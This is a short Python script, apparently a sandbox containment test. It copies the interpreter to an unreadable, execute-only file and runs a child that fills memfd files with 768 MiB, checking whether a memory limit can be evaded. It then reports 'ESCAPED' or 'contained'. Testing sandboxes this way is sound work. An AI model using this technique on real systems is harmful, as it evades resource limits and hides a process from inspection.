# Attacks: the memory limit, by a program that executes a copy of itself which nobody may read: such a process keeps
# its descriptors from being looked at.
# Success: 768 MiB are written.
import os
import sys

CHILD = """
import os
held = 0
try:
    for fd in [os.memfd_create(f"m{i}") for i in range(12)]:
        for _ in range(64):
            os.write(fd, b"x" * (1 << 20))
            held += 1
except OSError:
    pass
print("ESCAPED: held %d MiB" % held if held == 768 else "contained", flush=True)
"""

try:
    with open(sys.executable, "rb") as program:
        content = program.read()
    copy = os.open("copy", os.O_WRONLY | os.O_CREAT, 0o111)
    while content:
        content = content[os.write(copy, content):]
    os.close(copy)
    os.execv("./copy", [sys.executable, "-I", "-S", "-c", CHILD])
except OSError:
    print("contained")
